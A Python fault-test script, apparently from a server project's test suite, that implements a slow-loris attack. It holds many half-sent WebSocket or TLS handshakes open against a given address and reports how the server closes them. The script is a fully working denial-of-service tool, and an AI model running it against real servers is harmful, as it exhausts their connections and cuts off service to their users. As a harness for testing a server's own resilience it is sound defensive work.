#!/usr/bin/env python3
"""Slow-loris attacker for the fault tests: N connections that each send the start of a request
one byte at a time, every --interval seconds, and never finish it.

    slowloris.py --addr HOST:PORT --conns N --kind http|tls [--interval S] [--hold S]
                 [--wait-closed S] [--ready FILE] [--cap K]

http: a WebSocket upgrade request whose header block never ends. tls: a TLS record header
announcing a 16 KiB ClientHello, then its first bytes (a real ClientHello's start), never all of
it. Connections are opened as fast as the kernel takes them (non-blocking connect, epoll), the
first byte sent at once; --ready is created once all are open. The run lasts --hold seconds
from then (--wait-closed S: and up to S seconds more while the server has not closed them all:
on a loaded machine it accepts the last ones late, and each deadline runs from its accept);
then one JSON line: opened, connect_failed, closed_by_server (EOF or reset seen),
closed_in_order (the closed ones were the oldest: each closed connection was opened before every
one still open), oldest_closed_first (with --cap K, the server's first opened-K closes were the
opened-K oldest connections), first_close_s / last_close_s (after the first connection opened), bytes_sent.
Every socket operation is non-blocking; the loop is bounded by --hold + --wait-closed."""
import argparse
import errno
import json
import os
import selectors
import socket
import struct
import time

HTTP = (b"GET / HTTP/1.1\r\nHost: snowflake.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        + b"X-Padding: " + b"a" * 4000 + b"\r\n")


def tls_prefix():
    # record: handshake (22), TLS 1.0 legacy version, length 16384; handshake: ClientHello (1),
    # length 16380, version TLS 1.2, 32 random bytes, then what never comes
    body = struct.pack("!BBH", 1, 0, 16380) + b"\x03\x03" + os.urandom(32)
    return struct.pack("!BHH", 22, 0x0301, 16384) + body + b"\x00" * 4000


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--addr", required=True)
    ap.add_argument("--conns", type=int, required=True)
    ap.add_argument("--kind", choices=["http", "tls"], required=True)
    ap.add_argument("--interval", type=float, default=2.0)
    ap.add_argument("--hold", type=float, default=15)
    ap.add_argument("--wait-closed", type=float, default=0)
    ap.add_argument("--ready")
    ap.add_argument("--cap", type=int, default=0)
    args = ap.parse_args()
    host, port = args.addr.rsplit(":", 1)
    data = HTTP if args.kind == "http" else tls_prefix()
    sel = selectors.DefaultSelector()
    conns = {}      # fd -> [index, socket, bytes sent, next send time]
    opened, connect_failed, sent_total = 0, 0, 0
    closed = []     # (poll pass that saw it, index, seconds after start)
    poll = [0]
    t0 = time.monotonic()
    open_deadline = t0 + max(30.0, args.hold)

    def close(fd, now):
        c = conns.pop(fd)
        sel.unregister(c[1])
        c[1].close()
        closed.append((poll[0], c[0], now - t0))

    for i in range(args.conns):
        if time.monotonic() > open_deadline:
            break
        s = socket.socket()
        s.setblocking(False)
        err = s.connect_ex((host, int(port)))
        if err not in (0, errno.EINPROGRESS):
            s.close()
            connect_failed += 1
            continue
        conns[s.fileno()] = [opened, s, 0]
        sel.register(s, selectors.EVENT_READ)
        opened += 1
        if i % 256 == 255:
            # let the server take them: its backlog is 4096
            poll[0] += 1
            for key, _ in sel.select(0):
                try:
                    if not key.fileobj.recv(4096):
                        close(key.fd, time.monotonic())
                except BlockingIOError:
                    pass
                except OSError:
                    close(key.fd, time.monotonic())
    if args.ready:
        open(args.ready, "w").close()
    end = time.monotonic() + args.hold
    hard_end = end + args.wait_closed
    next_round = 0.0
    while time.monotonic() < end or (conns and time.monotonic() < hard_end):
        now = time.monotonic()
        poll[0] += 1
        for key, _ in sel.select(0.05):
            try:
                if not key.fileobj.recv(4096):
                    close(key.fd, now)
            except BlockingIOError:
                pass
            except OSError:
                close(key.fd, now)
        now = time.monotonic()
        if now < next_round:
            continue
        next_round = now + args.interval
        for fd, c in list(conns.items()):
            if c[2] >= len(data):
                continue
            try:
                n = c[1].send(data[c[2]:c[2] + 1])
                c[2] += n
                sent_total += n
            except BlockingIOError:
                pass
            except OSError:
                close(fd, now)
    still = sorted(c[0] for c in conns.values())
    # closes seen in one poll pass have no order among them: by index within a pass
    closed_ids = [i for _, i, _ in sorted(closed)]
    in_order = not still or not closed_ids or max(closed_ids) < still[0]
    # --cap K: the first (opened - K) connections the server closed must be the oldest ones
    excess = max(0, opened - args.cap) if args.cap else 0
    oldest_first = set(closed_ids[:excess]) == set(range(excess))
    print(json.dumps(dict(kind=args.kind, opened=opened, connect_failed=connect_failed,
                          closed_by_server=len(closed), still_open=len(still),
                          closed_in_order=in_order, excess=excess, oldest_closed_first=oldest_first,
                          first_close_s=round(min((t for _, _, t in closed), default=-1), 2),
                          last_close_s=round(max((t for _, _, t in closed), default=-1), 2),
                          open_s=round(end - args.hold - t0, 2), bytes_sent=sent_total)),
          flush=True)
    for c in conns.values():
        c[1].close()


if __name__ == "__main__":
    main()
